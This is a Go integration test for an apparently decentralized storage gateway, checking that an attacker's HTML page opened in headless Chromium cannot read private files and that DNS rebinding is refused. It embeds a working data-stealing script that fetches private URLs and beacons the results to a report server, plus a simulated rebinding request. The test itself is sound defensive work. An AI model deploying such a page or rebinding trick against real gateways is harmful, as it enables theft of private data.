package integration

import (
	"context"
	"encoding/json"
	"fmt"
	"net"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// stealPage is an attacker's public page: its script fetches each URL of
// targets from the origin it is served from and reports what it read.
const stealPage = `<!doctype html>
<html><body><script>
const targets = %s;
const report = (o) => { new Image().src = '%s?' + new URLSearchParams(o); };
Promise.all(targets.map((u) => fetch(u).then((r) => r.text().then((t) => 'read ' + r.status + ': ' + t.slice(0, 300)))
  .catch((e) => 'failed: ' + e)))
  .then((rs) => report({origin: self.origin, results: JSON.stringify(rs)}));
</script></body></html>
`

// TestBrowserCannotReadPrivate: an attacker's public HTML file, opened in
// headless Chromium on the gateway of the owner of a private file, runs
// in an opaque origin of its own and reads nothing the gateway serves:
// not the private file by any route, not even a public file. A name
// rebound to the gateway's address (DNS rebinding, simulated with
// Chromium's host resolver rules) gets no page at all.
func TestBrowserCannotReadPrivate(t *testing.T) {
	chromium, err := exec.LookPath("chromium")
	if err != nil {
		t.Fatalf("this test needs Debian's chromium (apt-get install chromium; .ci/run installs it): %v", err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	owner := startDaemon(t, newDaemonRepo(t))
	attacker := startDaemon(t, newDaemonRepo(t), "--bootstrap", owner.tcpAddr())
	s := putSecret(t, owner)
	public := owner.put(randomFile(t, 95, 5000))

	targets := []string{
		"/ddc/buc/" + s.bucket + "/path" + s.path,
		"/ddc/buc/" + s.bucket + "/file/" + s.root,
		"/ddc/file/" + s.root,
		"/ipfs/" + s.root + "?format=raw",
		"/ipfs/" + s.chunk + "?format=raw",
		"/ipfs/" + s.root + "?format=car",
		"/ddc/file/" + public,
	}
	list, _ := json.Marshal(targets)
	reports, reportURL := reportServer(t)
	dir := t.TempDir()
	page := filepath.Join(dir, "steal.html")
	if err := os.WriteFile(page, fmt.Appendf(nil, stealPage, list, reportURL), 0o644); err != nil {
		t.Fatal(err)
	}
	pc := attacker.put(page, "--path", "/pages/steal.html")

	rep := openInChromium(ctx, t, chromium, dir, owner.gateway()+"/ddc/file/"+pc, reports)
	var results []string
	if err := json.Unmarshal([]byte(rep.Get("results")), &results); err != nil || len(results) != len(targets) {
		t.Fatalf("the page reported %v (%v)", rep, err)
	}
	if o := rep.Get("origin"); o != "null" {
		t.Fatalf("the page ran in origin %q, want an opaque one (null)", o)
	}
	for i, r := range results {
		t.Logf("%s: %s", targets[i], r)
		if leak := s.leaks([]byte(r), attacker); leak != "" || !strings.HasPrefix(r, "failed: ") {
			t.Fatalf("the page's fetch of %s: %q; want it to fail (leaks %q)", targets[i], r, leak)
		}
	}

	// A foreign Host: refused before any route, in the browser and not.
	_, port, _ := net.SplitHostPort(strings.TrimPrefix(owner.gateway(), "http://"))
	a := request(t, "GET", owner.gateway()+"/ddc/file/"+public, "Host", "rebind.test:"+port)
	if a.status != 421 {
		t.Fatalf("a foreign Host: %d %.100q, want 421", a.status, a.body)
	}
	dom, err := exec.CommandContext(ctx, chromium, append(append([]string(nil), chromiumFlags...),
		"--user-data-dir="+filepath.Join(dir, "profile2"), "--host-resolver-rules=MAP rebind.test 127.0.0.1",
		"--dump-dom", (&url.URL{Scheme: "http", Host: "rebind.test:" + port, Path: "/ddc/buc/" + s.bucket + "/path" + s.path}).String())...).Output()
	if err != nil {
		t.Fatalf("chromium --dump-dom: %v", err)
	}
	if s.leaks(dom) != "" || !strings.Contains(string(dom), "this gateway answers to localhost") {
		t.Fatalf("a rebound name in Chromium got %.300q; want the gateway's refusal of its Host", dom)
	}
}
